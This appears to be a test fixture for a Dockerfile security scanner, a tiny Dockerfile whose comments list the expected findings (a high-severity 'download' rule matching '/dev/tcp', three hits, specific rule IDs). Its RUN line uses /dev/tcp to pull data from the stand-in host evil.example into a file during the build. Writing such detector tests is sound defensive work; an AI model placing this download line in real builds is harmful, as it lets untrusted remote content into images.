FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN exec 3<>/dev/tcp/evil.example/80 && cat <&3 > /x
USER app
# expect: download 2 high "/dev/tcp"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR303-fc7a5f3c17 VR501-e064bac1a6
